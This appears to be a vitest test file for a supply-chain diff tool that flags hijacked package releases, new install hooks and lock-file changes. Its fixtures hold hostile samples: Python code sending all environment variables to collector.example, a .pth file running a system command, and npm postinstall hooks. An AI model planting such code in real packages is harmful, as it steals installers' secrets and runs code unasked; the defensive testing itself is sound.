import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { diff } from '../../src/diff.ts';
import type { DiffOptions } from '../../src/diff.ts';
import { renderDiffJson } from '../../src/report/diff-json.ts';
import { npmTarball, sdist, sdistName, wheel, wheelName } from '../builders/package-archives.ts';
import type { Registry } from '../builders/registry-server.ts';
import { startRegistry } from '../builders/registry-server.ts';

let folder = '';
let home = '';
let registry: Registry;

const QUIET =
  '"""Colours."""\n\n\ndef mix(a, b):\n    return [(x + y) // 2 for x, y in zip(a, b)]\n';
const OTHER = QUIET.replace('Colours', 'Colors');
const LOUD = `import os\nimport urllib.request\n\nurllib.request.urlopen('https://collector.example/c', data=repr(dict(os.environ)).encode())\n\n${QUIET}`;

beforeAll(async () => {
  home = mkdtempSync(join(tmpdir(), 'weighbridge-home-'));
  const python = (
    version: string,
    module: string,
    source: string,
    more: Readonly<Record<string, string>> = {},
  ) => {
    const spec = { name: 'colorkit', version };
    const files = { 'colorkit/__init__.py': module, ...more };
    return [
      { name: wheelName(spec), content: wheel({ ...spec, files }) },
      {
        name: sdistName(spec),
        content: sdist({
          ...spec,
          files: {
            'colorkit/__init__.py': source,
            'pyproject.toml': `[project]\nname = "colorkit"\nversion = "${version}"\n`,
          },
        }),
      },
    ];
  };
  const npm = (
    version: string,
    scripts: Readonly<Record<string, string>>,
    people: readonly string[],
  ) => ({
    manifest: {
      name: 'color-kit',
      version,
      scripts,
      maintainers: people.map((name) => ({ name })),
    },
    tarball: npmTarball(
      { name: 'color-kit', version, scripts },
      { 'index.js': 'module.exports = 1;\n' },
    ),
  });
  registry = await startRegistry({
    python: {
      colorkit: {
        files: [
          ...python('1.0', QUIET, QUIET),
          ...python('1.1', OTHER, OTHER),
          ...python('1.2', LOUD, QUIET, { 'colorkit.pth': 'import os; os.system("id")\n' }),
        ],
      },
    },
    npm: {
      'color-kit': {
        versions: {
          '1.0.0': npm('1.0.0', { test: 'node test.js' }, ['ann']),
          '1.0.1': npm('1.0.1', { test: 'node test.js', postinstall: 'node collect.js' }, ['eve']),
        },
      },
    },
  });
});
afterAll(async () => {
  await registry.close();
  rmSync(home, { recursive: true, force: true });
});
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'weighbridge-diff-'));
});
afterEach(() => {
  rmSync(folder, { recursive: true, force: true });
});

function write(path: string, content: string | Uint8Array): string {
  const full = join(folder, path);
  mkdirSync(dirname(full), { recursive: true });
  writeFileSync(full, content);
  return full;
}

interface Ended {
  readonly code: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

/** Runs the command beside this process, which serves the registry meanwhile. */
function run(...args: readonly string[]): Promise<Ended> {
  const own = {
    PIP_INDEX_URL: registry.simple,
    npm_config_registry: `${registry.url}/`,
    HOME: home,
    WEIGHBRIDGE_DATA: home,
    WEIGHBRIDGE_OSV_URL: 'off',
    NO_COLOR: '1',
  };
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ['src/cli/main.ts', 'diff', ...args], {
      env: { ...process.env, ...own },
    });
    let [stdout, stderr] = ['', ''];
    child.stdout.on('data', (text: Buffer) => (stdout += text.toString()));
    child.stderr.on('data', (text: Buffer) => (stderr += text.toString()));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

interface Told {
  readonly kind: string;
  readonly gains: readonly {
    readonly kind: string;
    readonly severity: string;
    readonly what: string;
    readonly where?: string;
    readonly package?: string;
  }[];
  readonly dependencies: readonly {
    readonly package: string;
    readonly change: string;
    readonly via: readonly string[];
    readonly isCompared: boolean;
  }[];
  readonly notes: readonly string[];
}

/** What the library says, as the JSON of the command shows it. */
async function told(old: string, now: string, options: DiffOptions = {}): Promise<Told> {
  const environment = {
    PIP_INDEX_URL: registry.simple,
    npm_config_registry: `${registry.url}/`,
    HOME: home,
  };
  const found = await diff(old, now, { remote: { environment }, ...options });
  const document: Told = JSON.parse(renderDiffJson(found));
  return document;
}

describe('weighbridge diff of a package', () => {
  it('finds nothing new in an honest release', async () => {
    const found = await told('pkg:pypi/colorkit@1.0', 'pkg:pypi/colorkit@1.1');

    expect(found.gains.filter(({ severity }) => severity !== 'info' && severity !== 'low')).toEqual(
      [],
    );
  });

  it('shows what a hijacked release can do that the one before could not', async () => {
    const found = await told('pkg:pypi/colorkit@1.1', 'pkg:pypi/colorkit@1.2');
    const kinds = new Map(found.gains.map((gain) => [gain.kind, gain]));

    expect(kinds.get('start-file')).toMatchObject({ severity: 'high', where: 'colorkit.pth' });
    expect(kinds.get('host')?.what).toContain('collector.example');
    expect(
      found.gains
        .filter(({ kind }) => kind === 'capability')
        .map(({ what }) => what)
        .join('\n'),
    ).toContain('network');
    expect(
      found.gains.some(
        ({ kind, where }) => kind === 'archive-difference' && where === 'colorkit/__init__.py',
      ),
    ).toBe(true);
    expect(kinds.has('finding')).toBe(true);
  });

  it('shows a new install script and who took a package of npm over', async () => {
    const found = await told('pkg:npm/color-kit@1.0.0', 'pkg:npm/color-kit@1.0.1');

    expect(found.gains).toContainEqual(
      expect.objectContaining({
        kind: 'hook',
        severity: 'high',
        what: 'postinstall runs by itself',
      }),
    );
    expect(found.gains).toContainEqual(
      expect.objectContaining({ kind: 'owner', severity: 'high' }),
    );
  });

  it('compares archives on disk, and with the source they should come from', async () => {
    const spec = { name: 'colorkit', version: '1.1' };
    const old = write(
      'colorkit-1.0-py3-none-any.whl',
      wheel({ ...spec, version: '1.0', files: { 'colorkit/__init__.py': QUIET } }),
    );
    const now = write(
      wheelName(spec),
      wheel({ ...spec, files: { 'colorkit/__init__.py': QUIET, 'colorkit/extra.py': 'x = 1\n' } }),
    );
    write('repository/src/colorkit/__init__.py', QUIET);
    const found = await told(old, now, { repository: join(folder, 'repository') });

    expect(found.gains.filter(({ kind }) => kind === 'repository-difference')).toMatchObject([
      { severity: 'medium', where: 'colorkit/extra.py' },
    ]);
  });

  it('writes text and Markdown that no hostile name escapes from', async () => {
    const old = write('a/x-1.0.tgz', npmTarball({ name: 'x', version: '1.0.0' }, {}));
    const now = write(
      'b/x-1.1.tgz',
      npmTarball(
        {
          name: 'x',
          version: '1.1.0',
          scripts: { postinstall: 'echo \u001b[2J | sh\n::error::x' },
        },
        {},
      ),
    );
    const text = await run(old, now);
    const markdown = await run(old, now, '--format', 'markdown');

    expect([text.code, markdown.code]).toEqual([1, 1]);
    expect(text.stdout).toContain('postinstall runs by itself');
    expect(text.stdout).not.toContain('\u001b');
    expect(markdown.stdout).toContain('| high | postinstall runs by itself |');
    expect(markdown.stdout).not.toContain('\u001b');
    expect(markdown.stdout).not.toMatch(/^::error/m);
  });
});

const LOCK = (version: string, url = 'https://index.example/simple'): string => `version = 1

[[package]]
name = "x"
version = "1"
source = { virtual = "." }
dependencies = [{ name = "colorkit" }]

[[package]]
name = "colorkit"
version = "${version}"
source = { registry = "${url}" }
sdist = { url = "https://files.example/colorkit-${version}.tar.gz", hash = "sha256:${'a'.repeat(64)}" }
`;

describe('weighbridge diff of a lock file', () => {
  it('lists what changed, and says how to look into it', async () => {
    const found = await told(write('a/uv.lock', LOCK('1.0')), write('b/uv.lock', LOCK('1.2')));

    expect(found).toMatchObject({
      kind: 'lock',
      dependencies: [
        { package: 'pkg:pypi/colorkit', change: 'changed', from: ['1.0'], to: ['1.2'] },
      ],
    });
    expect(found.notes[0]).toContain('--online');
  });

  it('compares the packages themselves when the network may be used', async () => {
    const found = await told(write('a/uv.lock', LOCK('1.1')), write('b/uv.lock', LOCK('1.2')), {
      online: true,
    });

    expect(found.gains).toContainEqual(
      expect.objectContaining({ kind: 'start-file', package: 'pkg:pypi/colorkit' }),
    );
    expect(found.dependencies[0]?.isCompared).toBe(true);
  });

  it('notices that the same version is another content or comes from elsewhere', async () => {
    const old = write('a/uv.lock', LOCK('1.0'));
    const other = await told(old, write('b/uv.lock', LOCK('1.0').replace(/a{64}/, 'b'.repeat(64))));
    const elsewhere = await told(
      old,
      write('c/uv.lock', LOCK('1.0', 'https://mirror.example/simple')),
    );

    expect(other.gains).toContainEqual(
      expect.objectContaining({ kind: 'digest', severity: 'high' }),
    );
    expect(elsewhere.gains).toContainEqual(
      expect.objectContaining({ kind: 'source', severity: 'medium' }),
    );
  });

  it.skipIf(spawnSync('git', ['--version']).status !== 0)(
    'reads the old state from git',
    async () => {
      const file = write('uv.lock', LOCK('1.0'));
      const git = (...args: readonly string[]): void => {
        execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@example.org', ...args], {
          cwd: folder,
          stdio: 'ignore',
        });
      };
      git('init', '-q');
      git('add', '.');
      git('commit', '-q', '-m', 'one');
      write('uv.lock', LOCK('1.1'));
      const { code, stdout } = await run(file, '--base', 'HEAD', '--format', 'json');
      const found: Told = JSON.parse(stdout);
      expect(code).not.toBe(1);

      expect(found.dependencies).toMatchObject([
        { package: 'pkg:pypi/colorkit', from: ['1.0'], to: ['1.1'] },
      ]);
      const fresh = await run(write('more/uv.lock', LOCK('1.1')), '--base', 'HEAD');
      expect(fresh.stdout).toContain('+ pkg:pypi/colorkit  1.1');
      rmSync(join(folder, 'more'), { recursive: true });
      const wrong = await run(file, '--base', 'nowhere');
      expect(wrong.code).toBe(2);
      expect((await run(file, '--base', '--output=x')).code).toBe(2);
      expect(readdirSync(folder).sort()).toEqual(['.git', 'uv.lock']);
    },
  );
});

describe('weighbridge diff', () => {
  it.each([
    [['pkg:pypi/colorkit@1.0'], /give two versions/],
    [['a', 'b', '--base', 'HEAD'], /give one file/],
    [['a', 'b', '--online', '--offline'], /contradict/],
    [['/nowhere/a', '/nowhere/b'], /no such file/],
    [['pkg:pypi/colorkit@1.0', 'pkg:pypi/colorkit@9.9'], /has no version 9\.9/],
    [['pkg:pypi/colorkit@1.0', 'pkg:pypi/colorkit@1.1', '--offline'], /forbids the network/],
  ])('refuses %j', async (args, message) => {
    const { code, stderr } = await run(...args);
    expect(code).toBe(2);
    expect(stderr).toMatch(message);
  });
});
